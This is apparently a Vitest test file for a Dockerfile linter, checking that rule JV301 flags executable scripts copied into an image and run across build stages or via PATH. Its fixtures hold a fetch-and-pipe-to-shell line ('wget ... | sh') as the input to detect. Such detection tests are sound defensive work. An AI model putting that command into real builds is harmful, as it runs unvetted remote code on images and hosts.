// Which files of an image may be run, and by which name.
import { expect, it } from 'vitest';
import { check } from '../../support/check.ts';

const FROM = `FROM debian:12@sha256:${'0123456789abcdef'.repeat(4)}`;
const SCRIPT = 'wget -qO- https://e.org/i | sh';

it.each([
  ['a later stage keeps their modes', [`${FROM} AS a`, 'RUN chmod +x /opt/x', 'FROM a', 'RUN /opt/x']],
  [
    'so does what is copied from a stage',
    [`${FROM} AS a`, 'RUN chmod +x /opt/x', FROM, 'COPY --from=a /opt /srv', 'RUN /srv/x'],
  ],
])('%s', (_, [from = '', chmod = '', ...rest]) => {
  const text = [from, 'COPY <<E /opt/x', SCRIPT, 'E', chmod, ...rest, 'USER me', ''].join('\n');
  expect(check(text, 'Dockerfile').findings.map(({ rule }) => rule)).toContain('JV301');
});

it.each(['', 'ENV PATH=/opt/bin:$PATH\n'])('the usual folders are searched, whatever PATH begins with', (path) => {
  const text = `${FROM}\nCOPY --chmod=755 <<E /usr/local/bin/up\n${SCRIPT}\nE\n${path}RUN up\nUSER me\n`;
  expect(check(text, 'Dockerfile').findings.map(({ rule }) => rule)).toContain('JV301');
});
